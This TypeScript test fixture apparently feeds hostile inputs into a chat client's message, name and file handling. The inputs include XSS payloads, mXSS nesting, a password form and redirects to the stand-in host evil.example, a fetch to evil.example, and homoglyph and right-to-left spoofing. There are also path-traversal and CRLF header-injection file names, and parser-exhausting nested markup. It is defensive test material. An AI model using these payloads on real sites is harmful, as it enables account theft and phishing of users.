// What somebody might send or call themselves to run something in another's page, to load something from elsewhere, to
// pass for something else, or to keep the page busy. Every entry tries to call `window.ran` or to ask evil.example.

const EVIL = "https://evil.example/";

/** Texts as they are typed, Markdown among them. */
export const TEXTS: Record<string, string> = {
  script: "<script>window.ran = 1</script>",
  image: `<img src=x onerror="window.ran = 1"> ![cat](${EVIL}cat.png)`,
  svg: '<svg onload="window.ran = 1"><animate onbegin="window.ran = 1" attributeName="x" dur="1s">',
  "script in a link": "[press](javascript:window.ran=1) [press](JaVaScRiPt:window.ran=1) [press](data:text/html,<script>parent.ran=1</script>)",
  "link in disguise": `[https://bank.example](${EVIL}) https://bank.example@evil.example/ https://bаnk.example/`,
  "link that ends late": `https://example.org/${"a".repeat(20_000)}`,
  "half a link, often": "http://".repeat(4_000),
  brackets: "[".repeat(30_000),
  "closed brackets": `${"[".repeat(10_000)}${"](".repeat(10_000)}`,
  quotes: `${"> ".repeat(10_000)}deep`,
  lists: Array.from({ length: 400 }, (_, depth) => `${"  ".repeat(Math.min(depth, 60))}- item`).join("\n"),
  stars: "*".repeat(30_000),
  "stars and words": "*a **b ".repeat(4_000),
  ticks: "`".repeat(30_001),
  "code that never ends": `${"```\n"}${"<b>".repeat(9_000)}`,
  marks: `Z${"\u0301".repeat(10_000)}`,
  "signs of direction": `\u202e${"gnp.exe\u2066".repeat(2_000)}\u2069`,
  "one word": "w".repeat(30_000),
  // More is typed slowly by Chromium itself, into any field.
  "many lines": "\n".repeat(1_000) + "end",
  emoji: "👩‍👩‍👧‍👦".repeat(1_000),
  "zero width": `pay${"\u200b".repeat(10_000)}pal`,
  templates: "{{constructor.constructor('window.ran=1')()}} ${window.ran=1} %s%n",
};

/** What other clients format. */
export const FORMATTED: Record<string, string> = {
  script: "<script>window.ran = 1</script><p>x</p>",
  image: `<img src="${EVIL}a.png" onerror="window.ran = 1" alt="a cat">`,
  svg: '<svg onload="window.ran = 1"><script>window.ran = 1</script><use href="data:image/svg+xml,x"></use></svg>',
  math: '<math><mtext><table><mglyph><style><img src=x onerror="window.ran = 1"></style></mglyph></table></mtext></math>',
  frame: `<iframe src="javascript:parent.ran = 1"></iframe><object data="${EVIL}"></object><embed src="${EVIL}">`,
  style: `<style>body { display: none; background: url(${EVIL}) }</style><p style="position: fixed; inset: 0; background: url(${EVIL})">x</p>`,
  form: `<form action="${EVIL}"><input name="password"><button>Log in</button></form>`,
  link: '<a href="javascript:window.ran = 1">press me</a><a href="vbscript:x">or me</a>',
  base: `<base href="${EVIL}"><meta http-equiv="refresh" content="0;url=${EVIL}"><link rel="stylesheet" href="${EVIL}a.css">`,
  handlers: '<p onclick="window.ran = 1" onmouseover="window.ran = 1" tabindex="0" autofocus onfocus="window.ran = 1">x</p>',
  ids: '<p id="log" name="body" class="dialog">x</p><a id="chats" href="https://example.org/">y</a>',
  "deep quotes": `${"<blockquote>".repeat(5_000)}deep`,
  "deep bold": `${"<b>".repeat(10_000)}bold`,
  "deep lists": `${"<ul><li>".repeat(4_000)}item`,
  // By the standard each paragraph opens anew what was left open before it: parts by the square of what is sent.
  "opened anew": Array.from({ length: 2_500 }, (_, at) => `<font color="${at}"><p>`).join(""),
  wide: "<table>".repeat(2_000) + "<tr><td>x".repeat(2_000),
  entities: "&#x202e;&lt;script&gt;window.ran = 1&lt;/script&gt;&NotAnEntity;".repeat(500),
  "never closed": `<a href="${EVIL}`,
};

/** Names of people. */
export const NAMES: Record<string, string> = {
  script: "<script>window.ran = 1</script>",
  image: `<img src=${EVIL} onerror=window.ran=1>`,
  "look-alike": "Аliсе",
  "signs of direction": "\u202eecilA\u2066",
  marks: `A${"\u0301".repeat(80)}`,
  "zero width": "Al\u200bice",
};

/** Names of files, and the type that is claimed. */
export const FILES: [name: string, type: string][] = [
  ['"><script>window.ran = 1</script>.png', "image/png"],
  ["..\\..\\evil.sh", "text/html"],
  ["page.html", "text/html"],
  ["drawing.svg", "image/svg+xml"],
  ["photo\u202egnp.exe", "image/png"],
  [`${"n".repeat(250)}.txt`, "text/plain"],
  ["a\r\nSet-Cookie: b", "application/xhtml+xml"],
];

/** A page that runs, whatever it is called. */
export const RUNNING_PAGE = "<html><body><script>window.ran = 1; fetch('https://evil.example/')</script><svg xmlns='http://www.w3.org/2000/svg' onload='window.ran = 1'/></body></html>";
